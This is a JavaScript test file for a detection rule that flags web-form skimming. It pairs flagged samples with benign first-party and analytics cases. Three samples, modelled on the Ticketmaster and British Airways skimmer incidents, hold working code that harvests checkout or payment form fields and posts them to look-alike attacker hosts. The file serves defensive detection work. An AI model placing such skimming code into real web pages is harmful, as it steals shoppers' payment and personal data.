// Tests for form-sweep-with-untrusted-send: a sweep of every form field plus a send to an
// unknown or look-alike host. The finding is reported on the sweep. Sections are separate.

// Ticketmaster-style: every field, base64, XHR POST to an unknown host.
var out = {};
// ruleid: form-sweep-with-untrusted-send
document.querySelectorAll('input, select, textarea').forEach(function (el) {
  out[el.name] = el.value;
});
var req = new XMLHttpRequest();
req.open('POST', 'https://webfotce-cdn.top/api');
req.send('info=' + btoa(JSON.stringify(out)) + '&hostname=' + location.hostname);

// ---
// British Airways-style: jQuery serializeArray, $.ajax to a look-alike.
// ruleid: form-sweep-with-untrusted-send
var fields = jQuery('#paymentForm').serializeArray();
jQuery.ajax({ type: 'POST', url: 'https://stripe-api.top/gateway/app/dataprocessing/api',
  data: JSON.stringify(fields), async: true, dataType: 'application/json' });

// ---
// FormData of the checkout form, sent with sendBeacon to an unknown host.
var formEl = document.querySelector('form#checkout');
// ruleid: form-sweep-with-untrusted-send
navigator.sendBeacon('https://secure-paygate.xyz/collect', new FormData(formEl));

// ---
// First-party checkout: FormData posted to the site itself.
var checkout = document.getElementById('checkout-form');
checkout.addEventListener('submit', function (e) {
  e.preventDefault();
  // ok: form-sweep-with-untrusted-send
  fetch('/checkout/place-order', { method: 'POST', body: new FormData(checkout) });
});

// ---
// Client-side validation over every field, page-view beacon to Google Analytics only.
// ok: form-sweep-with-untrusted-send
var all = document.querySelectorAll('input, select, textarea');
all.forEach(function (el) { el.classList.toggle('invalid', !el.checkValidity()); });
navigator.sendBeacon('https://www.google-analytics.com/g/collect?v=2&en=page_view');
